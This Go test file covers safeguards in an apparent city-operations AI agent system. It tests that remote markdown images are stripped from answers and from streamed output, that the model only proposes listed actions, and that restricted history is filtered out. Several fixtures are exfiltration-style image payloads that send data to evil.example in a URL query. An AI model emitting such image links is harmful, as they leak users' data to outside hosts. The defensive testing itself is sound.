package agents

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/cityagent/cityagent/access"
	"github.com/cityagent/cityagent/actions"
	"github.com/cityagent/cityagent/actions/audit"
	"github.com/cityagent/cityagent/llm"
	"github.com/cityagent/cityagent/llm/scripted"
	"github.com/cityagent/cityagent/store"
)

func TestSanitizeAnswer(t *testing.T) {
	cases := map[string]struct {
		in, want string
		removed  int
	}{
		"plain":          {"Renmin Road is slow [1].", "Renmin Road is slow [1].", 0},
		"remote image":   {"See ![chart](https://evil.example/c?d=secret) now", "See [image removed] now", 1},
		"protocol-less":  {"![x](//evil.example/p.gif)", "[image removed]", 1},
		"angle brackets": {"![x](<https://evil.example/a b>)", "[image removed]", 1},
		"two":            {"![a](http://a.example/1) ![b](HTTPS://b.example/2)", "[image removed] [image removed]", 2},
		"local image":    {"![plan](plan.png)", "[plan](plan.png)", 0},
		"plain link":     {"[details](https://example.org/x?y=1)", "[details](https://example.org/x?y=1)", 0},
		"zh":             {"见图：![图](https://evil.example/c?d=事件)。", "见图：[image removed]。", 1},
	}
	for name, c := range cases {
		got, n := sanitizeAnswer(c.in)
		if got != c.want || n != c.removed {
			t.Errorf("%s: sanitizeAnswer(%q) = %q, %d; want %q, %d", name, c.in, got, n, c.want, c.removed)
		}
	}
}

// proposeRig is a runner with the real action service and store, a
// counting executor, and a scripted model.
func proposeRig(t *testing.T, model llm.Model, actionsListed ...string) (*Runner, *store.DB) {
	t.Helper()
	db, err := store.Open(context.Background(), "", t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	cat, err := actions.LoadCatalog("")
	if err != nil {
		t.Fatal(err)
	}
	execs := map[string]actions.Executor{}
	for _, typ := range cat.List() {
		execs[typ.Executor] = actions.ExecutorFunc(func(context.Context, actions.Execution) (json.RawMessage, error) {
			t.Error("an executor ran during a chat")
			return nil, nil
		})
	}
	svc, err := actions.NewService(actions.Config{Catalog: cat, Store: db, Executors: execs})
	if err != nil {
		t.Fatal(err)
	}
	spec := testSpec("road_lookup")
	spec.Actions = actionsListed
	h := newHarness(t, spec, Models{ByName: map[string]llm.Model{"m": model}, Default: "m"}, lookupTool(t, "road_lookup", access.Internal, nil))
	h.runner.Sessions, h.runner.Actions, h.runner.Audit = db, svc, db
	return h.runner, db
}

func TestProposeThroughTheRunner(t *testing.T) {
	model := scripted.New("m",
		scripted.Call("road_lookup", `{"road":"renmin"}`).
			Call("propose_traffic_retime_signal", `{"corridor":"renmin","strategy":"more_main_green","rationale":"index 2.4 on the corridor"}`).
			Call("propose_traffic_retime_signal", `{"corridor":"renmin","strategy":"sideways"}`).
			Call("propose_energy_demand_response_event", `{"district":"gaoxin","event_type":"emergency"}`),
		scripted.Reply("Proposed; a supervisor decides."))
	r, db := proposeRig(t, model, "traffic.retime_signal")
	var events []Event
	res, err := r.Run(context.Background(), Turn{Agent: "traffic", Message: "Renmin Road is jammed, retime it.", Principal: operator}, func(e Event) { events = append(events, e) })
	if err != nil {
		t.Fatal(err)
	}
	offered := map[string]bool{}
	for _, ts := range model.Requests()[0].Tools {
		offered[ts.Name] = true
	}
	if !offered["propose_traffic_retime_signal"] || offered["propose_energy_demand_response_event"] || offered["propose_traffic_dispatch_crew"] {
		t.Errorf("offered tools %v: want only the listed action's proposal tool", offered)
	}
	if len(res.Proposals) != 1 || res.Proposals[0].Action != "traffic.retime_signal" || res.Proposals[0].Status != "proposed" {
		t.Fatalf("proposals %+v", res.Proposals)
	}
	var sawEvent bool
	for _, e := range events {
		if ref, ok := e.Data.(ProposalRef); ok && e.Type == EventProposal && ref.ID == res.Proposals[0].ID {
			sawEvent = true
		}
	}
	if !sawEvent {
		t.Error("no proposal event was emitted")
	}
	byName := map[string][]ToolCallRecord{}
	for _, c := range res.ToolCalls {
		byName[c.Name] = append(byName[c.Name], c)
	}
	if p := byName["propose_traffic_retime_signal"]; len(p) != 2 || !p[0].OK || p[1].OK || !strings.Contains(p[1].Error, "invalid arguments") {
		t.Errorf("proposal calls %+v: want one made and one refused for its arguments", p)
	}
	if e := byName["propose_energy_demand_response_event"]; len(e) != 1 || e[0].OK || !strings.Contains(e[0].Error, "not available") {
		t.Errorf("unlisted action call %+v", e)
	}
	p, err := db.GetProposal(context.Background(), res.Proposals[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	var ev []actions.Evidence
	_ = json.Unmarshal(p.Evidence, &ev)
	if p.Rationale != "index 2.4 on the corridor" || p.ProposerKeyID != operator.KeyID || p.Agent != "traffic" || p.Model != "m" ||
		p.Question != "Renmin Road is jammed, retime it." || p.Clearance != access.Internal || len(ev) != 1 || ev[0].Tool != "road_lookup" || ev[0].Snippet != "renmin is slow" {
		t.Errorf("stored proposal %+v, evidence %+v", p, ev)
	}
	kinds := map[string]int{}
	recs, _ := db.AuditChain(context.Background(), 0, 100)
	for _, rec := range recs {
		kinds[rec.Kind]++
	}
	if kinds[audit.KindProposalCreate] != 1 || kinds[audit.KindProposalRefused] != 1 || kinds[audit.KindToolRefused] != 1 ||
		kinds[audit.KindToolCall] != 3 || kinds[audit.KindChatTurn] != 1 {
		t.Errorf("audit kinds %v", kinds)
	}
}

func TestProposalsPerTurnAreBounded(t *testing.T) {
	step := scripted.Call("propose_traffic_retime_signal", `{"corridor":"a","strategy":"green_wave"}`)
	for range maxProposalsPerTurn {
		step = step.Call("propose_traffic_retime_signal", `{"corridor":"b","strategy":"green_wave"}`)
	}
	model := scripted.New("m", step, scripted.Reply("done"))
	r, _ := proposeRig(t, model, "traffic.retime_signal")
	spec, err := r.Catalog.Get("traffic")
	if err != nil {
		t.Fatal(err)
	}
	if r.Catalog, err = NewCatalog(withBudget(spec, 10)); err != nil {
		t.Fatal(err)
	}
	res, err := r.Run(context.Background(), Turn{Agent: "traffic", Message: "retime", Principal: operator}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Proposals) != maxProposalsPerTurn {
		t.Errorf("%d proposals in one turn, want at most %d", len(res.Proposals), maxProposalsPerTurn)
	}
}

func withBudget(s Spec, calls int) Spec {
	s.Budgets.MaxToolCalls = calls
	return s
}

func TestHistoryKeepsAnswersFromCallersBelowTheirClearance(t *testing.T) {
	answer := func(text string, c access.Clearance) store.Event {
		d, _ := json.Marshal(AnswerData{Text: text, Clearance: c})
		return store.Event{Turn: 1, Type: EventAnswer, Data: d, CreatedAt: time.Now()}
	}
	user := func(text string, turn int) store.Event {
		d, _ := json.Marshal(TextData{Text: text})
		return store.Event{Turn: turn, Type: EventUser, Data: d}
	}
	legacy, _ := json.Marshal(TextData{Text: "old answer"})
	events := []store.Event{user("q1", 1), answer("restricted plan: code 7731", access.Restricted), user("q2", 2), answer("public answer", access.Public),
		user("q3", 3), {Turn: 3, Type: EventAnswer, Data: legacy}}
	got := historyMessages(events, 10, access.Internal)
	var texts []string
	for _, m := range got {
		texts = append(texts, m.Content)
	}
	joined := strings.Join(texts, "|")
	if strings.Contains(joined, "7731") || !strings.Contains(joined, "public answer") || !strings.Contains(joined, "old answer") || !strings.Contains(joined, "q1") {
		t.Errorf("history for an internal caller: %q", texts)
	}
	if all := historyMessages(events, 10, access.Restricted); len(all) != 6 {
		t.Errorf("a restricted caller gets %d messages, want all 6", len(all))
	}
}

func TestStreamedDeltasNeverFormImages(t *testing.T) {
	// The image syntax is split across deltas at every position.
	text := "Chart: ![c](https://evil.example/x?d=1) end"
	for cut := 1; cut < len(text); cut++ {
		var out strings.Builder
		tr := &turnRun{emitFn: func(e Event) {
			if d, ok := e.Data.(DeltaData); ok {
				out.WriteString(d.Text)
			}
		}}
		f := tr.streamFunc()
		_ = f(context.Background(), text[:cut])
		_ = f(context.Background(), text[cut:])
		tr.flushStream()
		if strings.Contains(out.String(), "![") || strings.ReplaceAll(out.String(), "[c]", "![c]") != text {
			t.Fatalf("cut at %d: streamed %q", cut, out.String())
		}
	}
}
